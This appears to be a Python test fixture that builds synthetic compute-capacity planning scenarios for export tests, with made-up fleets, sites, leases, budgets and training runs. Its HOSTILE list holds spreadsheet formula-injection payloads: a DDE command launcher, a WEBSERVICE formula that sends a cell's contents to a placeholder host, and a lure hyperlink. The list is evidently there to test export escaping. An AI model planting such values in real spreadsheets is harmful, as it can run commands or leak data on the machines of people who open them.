"""Scenarios whose plans are exported: one with everything, one with next to nothing."""

from __future__ import annotations

from typing import Any

HOSTILE = (
    '=HYPERLINK("http://example.invalid","free money")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://example.invalid/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "{=1+1}",
    "http://example.invalid/",
    "internal:Ledger!A1",
    "0012",
    "1e5",
    "_x0041_",
    "<b>&\"'",
    "Ünïcödé ☃ 🦙",
    "x" * 40_000,
    "\t=1+1",
    "first line\n=1+1",
    "https://example.invalid/?q=1#top",
    "mailto:someone@example.invalid",
)
WHY = {"assumption": "made up for a test"}


def rich() -> dict[str, Any]:
    """Two sites, one of them closed; orders paid in parts; leases beyond the horizon; budgets that carry."""
    return {
        "format": 1,
        "name": "rich",
        "title": HOSTILE[0],
        "calendar": {
            "start": "2026-01",
            "periods": "8x3",
            "slot_months": 3,
            "tail_months": 12,
            "fiscal_year_starts": 7,
        },
        "finance": {"discount_rate": 0.08},
        "solve": {"gap": 0.02, "threads": 1, "time_limit_s": 60},
        "tables": {
            "teams": [{"team": "research", "title": HOSTILE[1], **WHY}, {"team": "product", **WHY}],
            "accelerators": [
                {
                    "accelerator": "x1",
                    "bf16_dense_tflops": 1000,
                    "memory_gb": 80,
                    "provisioned_kw": 1.0,
                    "cooling": "air",
                    "lot_size": 500,
                    "lead_time_months": 3,
                    "bring_up_months": 3,
                    "life_months": 60,
                    "price_usd": 30_000,
                    **WHY,
                },
                {"accelerator": "h100", "catalogue": "h100_sxm5", "lot_size": 512, "orderable": False, **WHY},
            ],
            "prices": [{"item": "x1", "date": "2026-07", "price": 25_000, **WHY}],
            "cash_profiles": [
                {"item": "x1", "event": "order", "offset_months": 0, "share": 0.3, **WHY},
                {"item": "x1", "event": "delivery", "offset_months": 18, "share": 0.7, **WHY},
            ],
            "sites": [
                {"site": "alpha", "pue": 1.25, **WHY},
                {"site": "beta", "pue": 1.1, "opening_cost_musd": 5, **WHY},
            ],
            "fleet": [
                {
                    "site": "alpha",
                    "accelerator": "x1",
                    "count": 500,
                    "status": "committed",
                    "in_service_from": "2026-04",
                    "due_musd": 4.2,
                    "due_date": "2026-04",
                    **WHY,
                },
                {
                    "site": "alpha",
                    "accelerator": "x1",
                    "count": 500,
                    "status": "existing",
                    "in_service_from": "2025-01",
                    **WHY,
                },
            ],
            "halls": [
                {
                    "site": site,
                    "hall": "main",
                    "cooling": "air",
                    "module_mw": 1,
                    "existing_mw": stands,
                    "max_modules": 6,
                    "lead_time_months": 6,
                    "price_musd_per_mw": 8,
                    **WHY,
                }
                for site, stands in (("alpha", 1.2), ("beta", 0))
            ],
            "power_sources": [
                {
                    "site": site,
                    "power_source": "grid",
                    "existing_mw": stands,
                    "module_mw": 2,
                    "max_mw": most,
                    "lead_time_months": 6,
                    "price_musd_per_mw": 1,
                    "energy_usd_per_mwh": 50,
                    **WHY,
                }
                for site, stands, most in (("alpha", 1.6, 1.6), ("beta", 0, 10))
            ],
            "fabrics": [
                {
                    "site": site,
                    "fabric": "clos",
                    "max_gang": 4096,
                    "block_endpoints": 500,
                    "existing_endpoints": stands,
                    "instance_price_musd": 0.5,
                    "lead_time_months": 3,
                    "price_usd_per_endpoint": 2000,
                    **WHY,
                }
                for site, stands in (("alpha", 1000), ("beta", 0))
            ],
            "opex": [{"item": "x1", "usd_per_year": 500, **WHY}],
            "leases": [
                {
                    "lease": "cloud",
                    "accelerator": "h100",
                    "lot_size": 512,
                    "min_lots": 2,
                    "max_lots": 3,
                    "from": "2026-04",
                    "term_months": 36,
                    "usd_per_accelerator_month": 600,
                    "take_or_pay_share": 0.6,
                    "ramp_months": 4,
                    **WHY,
                },
                {
                    "lease": "old_cloud",
                    "accelerator": "h100",
                    "lot_size": 512,
                    "max_lots": 1,
                    "committed_lots": 1,
                    "from": "2025-10",
                    "until": "2025-10",
                    "term_months": 12,
                    "usd_per_accelerator_month": 900,
                    **WHY,
                },
            ],
            "budgets": [
                {
                    "fiscal_year": year,
                    "category": category,
                    "budget_musd": amount,
                    "carry_over_share": 0.5,
                    "pull_forward_share": 0.2,
                    "overrun_price_musd": price,
                    **WHY,
                }
                for year in (2026, 2027, 2028)
                for category, amount, price in (("all", 25, 0.3), ("opex", 12, 0.5))
            ],
            "streams": [
                {
                    "stream": "other",
                    "team": "product",
                    "mfu": 0.3,
                    "eligible": ["x1", "h100"],
                    "floor_pflops": 60,
                    "unserved_usd_per_pflops_month": 4000,
                    **WHY,
                }
            ],
            "stream_segments": [{"stream": "other", "up_to_pflops": 400, "musd_per_pflops_month": 0.004, **WHY}],
            "runs": [_run(number, text) for number, text in enumerate(HOSTILE)],
        },
    }


def _run(number: int, text: str) -> dict[str, Any]:
    month = f"202{6 + number % 2}-{3 * (number % 4) + 1:02d}"
    return {
        "run": f"r{number}",
        "title": text,
        "team": "research",
        "flop_zflop": 1000 + 400 * number,
        "mfu": 0.4,
        "goodput": 0.9,
        "durations_months": [3, 6],
        "eligible": ["x1", "h100"],
        "earliest": "2026-01",
        "due": month,
        "latest": "2027-10",
        "value_musd": 3 * (8 + number),
        "value_loss_per_month": 0.05,
        "source": text,
        "assumption": f"why: {text}",
    }


def bare() -> dict[str, Any]:
    """A fleet that stands and one run: nothing to buy, no budget, no power, no network, no lease."""
    return {
        "format": 1,
        "name": "bare",
        "title": "Nothing to buy",
        "calendar": {"start": "2026-01", "periods": [6, 6], "tail_months": 0},
        "solve": {"gap": 0, "threads": 1},
        "tables": {
            "accelerators": [
                {
                    "accelerator": "x1",
                    "bf16_dense_tflops": 1000,
                    "memory_gb": 80,
                    "cooling": "air",
                    "lot_size": 8,
                    "orderable": False,
                }
            ],
            "sites": [{"site": "alpha", "pue": 1.2}],
            "fleet": [
                {"site": "alpha", "accelerator": "x1", "count": 800, "status": "existing", "in_service_from": "2025-01"}
            ],
            "runs": [
                {
                    "run": "only",
                    "flop_zflop": 2000,
                    "mfu": 0.4,
                    "goodput": 1,
                    "durations_months": [3],
                    "eligible": ["x1"],
                    "earliest": "2026-01",
                    "due": "2026-06",
                    "latest": "2026-09",
                    "value_musd": 3,
                }
            ],
        },
    }


def idle() -> dict[str, Any]:
    """A fleet that stands and nobody who asks for it: a plan that decides nothing."""
    document = bare()
    document["name"], document["title"] = "idle", "Nothing asked for"
    del document["tables"]["runs"]
    return document
